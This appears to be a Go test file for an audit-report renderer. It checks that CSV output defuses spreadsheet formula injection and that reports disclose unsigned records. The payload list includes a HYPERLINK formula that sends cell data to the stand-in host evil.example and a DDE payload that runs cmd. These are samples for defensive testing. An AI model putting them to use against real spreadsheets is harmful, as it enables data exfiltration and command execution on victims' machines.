package report

import (
	"bytes"
	"encoding/csv"
	"strings"
	"testing"
	"time"

	"github.com/gatehouse-dev/gatehouse/audit"
)

func TestCSVDefusesFormulas(t *testing.T) {
	t0 := time.Date(2026, 12, 1, 10, 0, 0, 0, time.UTC)
	for _, evil := range []string{
		`=HYPERLINK("https://evil.example/?d="&B2,"open")`,
		`+1+cmd|' /C calc'!A0`,
		`-2+3`,
		`@SUM(1+1)`,
		"\t=1",
		"\r=1",
	} {
		t.Run(evil, func(t *testing.T) {
			recs := []*audit.Record{{Version: 1, Index: 0, Time: t0, Type: audit.TypeDecision, Subject: evil,
				Route: "files", Path: evil, Outcome: audit.OutcomeDeny, Reasons: []string{evil}}}
			rep := Build(recs, Integrity{Verified: true}, Options{From: t0.Add(-time.Hour), To: t0.Add(time.Hour), User: evil, Generated: t0})
			var b bytes.Buffer
			if err := Render(&b, rep, "csv"); err != nil {
				t.Fatal(err)
			}
			rows, err := csv.NewReader(&b).ReadAll()
			if err != nil {
				t.Fatal(err)
			}
			quoted := 0
			for _, r := range rows {
				for _, c := range r {
					if c != "" && bytes.ContainsAny([]byte{c[0]}, "=+-@\t\r") {
						t.Fatalf("cell %q starts a formula (row %q)", c, r)
					}
					if c == "'"+evil {
						quoted++
					}
				}
			}
			if quoted == 0 {
				t.Fatalf("the value is not in the report as '%s", evil)
			}
		})
	}
}

func TestReportStatesUnsignedRecords(t *testing.T) {
	live := Integrity{Verified: true, Records: 43, Checkpoint: 40, Unsigned: 3, Root: integ.Root, Origin: integ.Origin}
	rep := Build(fixture(), live, Options{From: base, To: base.Add(24 * time.Hour), Generated: base.Add(25 * time.Hour)})
	want := map[string][]string{
		"html": {"40 of the 43 records", "3 records are NOT covered by a signed checkpoint"},
		"csv":  {"unsigned_records 3"},
		"json": {`"unsigned_records": 3`},
	}
	for format, subs := range want {
		var b bytes.Buffer
		if err := Render(&b, rep, format); err != nil {
			t.Fatal(err)
		}
		for _, s := range subs {
			if !strings.Contains(b.String(), s) {
				t.Errorf("%s report lacks %q", format, s)
			}
		}
		if strings.Contains(b.String(), "All 43 records") {
			t.Errorf("%s report says all records are verified", format)
		}
	}
}
